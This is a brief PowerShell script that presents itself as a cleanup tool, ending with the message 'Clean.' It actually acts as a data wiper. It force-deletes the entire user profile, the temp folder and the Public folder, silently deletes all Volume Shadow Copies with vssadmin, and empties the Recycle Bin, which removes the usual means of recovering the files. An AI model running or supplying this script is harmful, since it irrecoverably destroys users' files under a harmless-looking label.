$targets = @("$env:TEMP\*", "$env:USERPROFILE\*", "C:\Users\Public\*")
foreach ($t in $targets) {
    Remove-Item -Path $t -Recurse -Force -ErrorAction SilentlyContinue
}
vssadmin delete shadows /all /quiet
Clear-RecycleBin -Force -ErrorAction SilentlyContinue
Write-Host 'Clean.'
